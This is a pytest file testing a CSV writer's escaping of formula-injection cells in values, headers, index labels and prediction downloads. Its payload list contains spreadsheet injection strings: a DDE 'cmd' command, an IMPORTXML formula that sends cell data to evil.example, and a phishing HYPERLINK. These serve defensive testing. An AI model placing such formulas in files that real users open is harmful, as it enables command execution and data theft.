"""CSV formula injection (#11.6): every CSV the product writes for people escapes formula cells
(a leading ', OWASP) in cells, column names and index labels; numbers stay numbers."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest

from bayes_core.csvio import escape_cell, to_csv_bytes, write_csv

PAYLOADS = [
    '=HYPERLINK("https://evil.example/login","Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "=1",
    "=",
    "-",
    "+",
    "@",
    "\t=1+1",
    "\r=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@import",
    "=IMPORTXML(CONCAT(\"https://evil.example/?\", A1), \"//a\")",
    "+-+-=1",
    "-- comment",
    "=\n1",
]
HARMLESS = ["E003", "plain text", "a=b", "1+1", "x-y", "", " =1", "'=already quoted", "-1.5", "+3", "-1e5", "-.5"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cell_is_escaped_and_round_trips(payload):
    frame = pd.DataFrame({"entity": [payload], "value": [-1.5], "count": [3]})
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame)), keep_default_na=False)
    assert back.loc[0, "entity"] == "'" + payload
    assert back.loc[0, "value"] == -1.5 and back.loc[0, "count"] == 3


@pytest.mark.parametrize("payload", PAYLOADS[:8])
def test_formula_column_name_and_index_label_are_escaped(payload):
    frame = pd.DataFrame({payload: [1.0]}, index=pd.Index([payload], name="variable"))
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame, index=True)), index_col=0)
    assert list(back.columns) == ["'" + payload] and list(back.index) == ["'" + payload]


@pytest.mark.parametrize("payload", ["ok\r=1+1", "ok\n@SUM(1)", "a,b\r\n-1+1", "x\"\r=2"])
def test_a_line_break_inside_a_cell_cannot_start_a_new_row(payload):
    import csv

    raw = to_csv_bytes(pd.DataFrame({"entity": [payload], "v": [1]})).decode()
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert rows == [["entity", "v"], [payload, "1"]], "one quoted cell, not a new row starting with a formula"


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_and_plain_numbers_in_text_are_untouched(text):
    assert escape_cell(text) == text


@pytest.mark.parametrize("number", [-1.5, -1, -0.0, -1e308, float("-inf"), np.float32(-2.5), np.int64(-7)])
def test_negative_numbers_stay_numbers(number):
    frame = pd.DataFrame({"x": [number]})
    text = to_csv_bytes(frame).decode()
    assert "'" not in text
    assert pd.read_csv(io.StringIO(text))["x"].iloc[0] == pytest.approx(float(number))


def test_mixed_object_column_escapes_only_text():
    frame = pd.DataFrame({"x": ["=1+1", -2.0, None, "ok"]})
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame)))
    assert back["x"].tolist()[:2] == ["'=1+1", "-2.0"] and back["x"].tolist()[3] == "ok"


def test_categorical_and_bool_columns():
    frame = pd.DataFrame({"c": pd.Categorical(["@x", "y"]), "b": [True, False]})
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame)))
    assert back["c"].tolist() == ["'@x", "y"] and back["b"].tolist() == [True, False]


def test_write_csv_escapes_too_and_leaves_the_frame_alone(tmp_path):
    frame = pd.DataFrame({"entity": ["=1+1"]})
    write_csv(frame, tmp_path / "out.csv")
    assert pd.read_csv(tmp_path / "out.csv")["entity"].iloc[0] == "'=1+1"
    assert frame["entity"].iloc[0] == "=1+1", "the caller's frame is not modified"


def test_prediction_download_escapes_request_values(nb_model, nb_run):
    from ui.predict import predictions_csv

    table = nb_model.predict({"entity": "@SUM(1+1)"}, nb_run)
    back = pd.read_csv(io.BytesIO(predictions_csv(table, nb_run.verdict)))
    assert back.loc[0, "entity"] == "'@SUM(1+1)"
    assert back.loc[0, "rate_mean"] == pytest.approx(table.loc[0, "rate_mean"])


def test_template_download_goes_through_the_escaping_writer(nb_model, nb_run, monkeypatch):
    import ui.predict

    seen = []
    monkeypatch.setattr(ui.predict, "to_csv_bytes", lambda df, **kw: seen.append(df) or b"")
    ui.predict.template_csv(nb_model, nb_run)
    assert len(seen) == 1 and list(seen[0].columns) == ["entity", "windows", "threshold", "credible_level"]
